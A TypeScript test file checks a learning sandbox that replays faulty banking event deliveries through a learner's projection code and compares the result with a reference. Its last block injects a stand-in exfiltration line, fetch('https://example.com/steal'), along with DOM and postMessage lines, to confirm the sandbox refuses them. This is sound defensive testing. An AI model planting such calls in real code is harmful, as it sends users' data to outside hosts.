// A learner projection on the sandbox's own run: the session replayed in the
// code worker's engine with the learner's code live, so it meets the
// sandbox's faults exactly; the reference shadow-built beside it, compared,
// flipped and rolled back.
import { beforeAll, describe, expect, it } from 'vitest';
import type { CodeEnvironment } from '../../../src/code/checks/environment.ts';
import { starter as balanceStarter } from '../../../src/code/exercises/idempotentBalance/exercise.ts';
import { idempotentBalanceSolution } from '../../../src/code/exercises/idempotentBalance/solution.ts';
import { SessionProjectionLab } from '../../../src/code/lab/sessionProjectionLab.ts';
import { LearnerCodeError } from '../../../src/code/sandbox/errors.ts';
import { banking } from '../../../src/domain/index.ts';
import { createEngine, replayScript, type SettingsPatch, type TraceRecord } from '../../../src/engine/index.ts';
import { parseSessionFile, toSessionFile } from '../../../src/sandbox/sessionFormat.ts';
import type { SessionState } from '../../../src/sandbox/sessionState.ts';
import { codeEnvironment } from './environment.ts';

let env: CodeEnvironment;
beforeAll(async () => {
  env = await codeEnvironment();
});

/** The sandbox's faults: duplicates and reordering, with the guards off for the balance view. */
const FAULTY: SettingsPatch = {
  bus: { duplicateProbability: 0.4, reorder: true, jitterMs: 40 },
  projections: { balance: { dedupe: false, ordering: false } },
};

/** A sandbox session as the coordinator records it: three accounts, deposits and withdrawals, sent the way the page sends them. */
async function recordedSession(settings: SettingsPatch, seed = 11): Promise<SessionState> {
  const engine = createEngine({ sql: env.sql, domain: banking, seed, settings });
  for (const n of [1, 2, 3]) {
    await engine.execute({ type: 'OpenAccount', data: { accountId: `acc-${n}`, owner: `Owner ${n}`, overdraftLimitCents: 1000 } });
  }
  for (let i = 0; i < 30; i++) {
    const accountId = `acc-${(i % 3) + 1}`;
    engine.submit({
      kind: 'command',
      command:
        i % 4 === 3
          ? { type: 'Withdraw', data: { accountId, amountCents: 50 } }
          : { type: 'Deposit', data: { accountId, amountCents: 100 + i } },
    });
    if (i % 5 === 4) await engine.advance(30);
  }
  await engine.advance(20);
  const session: SessionState = { domain: 'banking', seed, settings, script: engine.recordedScript(), until: engine.position() };
  engine.close();
  return session;
}

const delivered = (trace: readonly TraceRecord[]) =>
  JSON.stringify(trace.filter((r) => r.type === 'bus.delivered' && r.projection === 'balance'));

describe('a learner projection on the sandbox run', () => {
  it('fed the sandbox’s faulty deliveries, a non-idempotent projection diverges from the reference', async () => {
    const session = await recordedSession(FAULTY);
    const lab = await SessionProjectionLab.open(env, session, { reference: 'balance', source: balanceStarter });
    const state = lab.state();
    expect(state.deliveries.duplicates).toBeGreaterThan(0);
    expect(state.deliveries.skippedByGuard).toBe(0);
    expect(state.exact).toBe(true);
    expect(state.comparison).toMatchObject({ liveVariant: 'yours', otherVariant: 'reference' });
    expect(state.comparison!.differingRows).toBeGreaterThan(0);
    const sample = state.comparison!.tables[0]!.samples[0]!;
    expect(sample.live!['balance_cents']).not.toBe(sample.other!['balance_cents']);
    expect(state.answering).toBe('reference');
    lab.close();
  });

  it('it meets exactly the deliveries the sandbox’s bus made', async () => {
    const session = await recordedSession(FAULTY);
    const sandbox = await replayScript(env.sql, banking, session.seed, session.settings, session.script, 'idle');
    for (const source of [balanceStarter, idempotentBalanceSolution]) {
      const lab = await SessionProjectionLab.open(env, session, { reference: 'balance', source });
      const sinceShadow = lab.engine.trace.findIndex((r) => r.type === 'projection.shadowStarted');
      expect(delivered(lab.engine.trace.slice(0, sinceShadow))).toBe(delivered(sandbox.trace));
      lab.close();
    }
    sandbox.close();
  });

  it('the same deliveries through the sandbox’s dedupe guard: duplicates skipped, no divergence', async () => {
    const session = await recordedSession({ bus: { duplicateProbability: 0.4 } });
    const lab = await SessionProjectionLab.open(env, session, { reference: 'balance', source: balanceStarter });
    const state = lab.state();
    expect(state.deliveries.duplicates).toBeGreaterThan(0);
    expect(state.deliveries.skippedByGuard).toBe(state.deliveries.duplicates);
    expect(state.comparison!.differingRows).toBe(0);
    lab.close();
  });

  it('an idempotent one compares equal, answers once flipped live, and rolls back', async () => {
    const session = await recordedSession(FAULTY);
    const lab = await SessionProjectionLab.open(env, session, { reference: 'balance', source: idempotentBalanceSolution });
    expect(lab.state().comparison!.differingRows).toBe(0);
    expect((await lab.query('GetBalance', { accountId: 'acc-1' })).answering).toBe('reference');
    let state = await lab.act('flipLive');
    expect(state.answering).toBe('yours');
    const answer = await lab.query('GetBalance', { accountId: 'acc-1' });
    expect(answer).toMatchObject({ answering: 'yours', data: { accountId: 'acc-1' } });
    const view = await lab.readView();
    // The read model only: the engine's checkpoint tables are not part of it.
    expect(view.map((v) => v.table)).toEqual(['account_balances']);
    expect(view.find((v) => v.table === 'account_balances')!.columns).toContain('version');
    state = await lab.act('rollback');
    expect(state.answering).toBe('reference');
    expect((await lab.readView()).find((v) => v.table === 'account_balances')!.columns).not.toContain('version');
    expect(state.log.some((l) => l.includes('rolledBack'))).toBe(true);
    lab.close();
  });

  it('code that throws in apply crashes its projection: the lab says why and keeps it out of the flip', async () => {
    const session = await recordedSession(FAULTY);
    const source = balanceStarter.replace(
      'const d = event.data;',
      "const d = event.data;\n  if (event.type === 'MoneyWithdrawn') throw new Error('withdrawals not done yet');",
    );
    const lab = await SessionProjectionLab.open(env, session, { reference: 'balance', source });
    const state = lab.state();
    expect(state.deliveries.crashes).toBeGreaterThan(0);
    expect(state.crash).toMatch(/withdrawals not done yet/);
    expect(state.info.status).toBe('crashed');
    expect(state.answering).toBe('yours');
    expect(state.comparison!.differingRows).toBeGreaterThan(0);
    // Crashed, it took fewer deliveries than the sandbox's projection: the lab says the run is not the same one for one.
    expect(state.exact).toBe(false);
    lab.close();
  });

  it('a schema without the reference’s table is told, not compared as empty', async () => {
    const session = await recordedSession({});
    const source = balanceStarter.replaceAll('account_balances', 'my_balances');
    const lab = await SessionProjectionLab.open(env, session, { reference: 'balance', source });
    expect(lab.state().missingTables).toEqual(['account_balances']);
    lab.close();
  });
});

describe('code imported with a session is untrusted', () => {
  it.each([
    ['document', "document.title = 'owned';"],
    ['fetch', "fetch('https://example.com/steal');"],
    ['postMessage', "postMessage({ kind: 'command' });"],
  ])('a session file whose code reaches for %s loads, and the sandbox refuses it', async (name, line) => {
    const session = await recordedSession({});
    const file = JSON.stringify(
      toSessionFile({ ...session, code: { projection: { reference: 'balance', source: `${line}\n${balanceStarter}` } } }),
    );
    const imported = parseSessionFile(file).session;
    expect(imported.code!.projection!.source.startsWith(line)).toBe(true);
    const opened = SessionProjectionLab.open(env, imported, imported.code!.projection!);
    await expect(opened).rejects.toBeInstanceOf(LearnerCodeError);
    await expect(opened).rejects.toThrow(new RegExp(`${name} is not available in the sandbox`));
  });
});
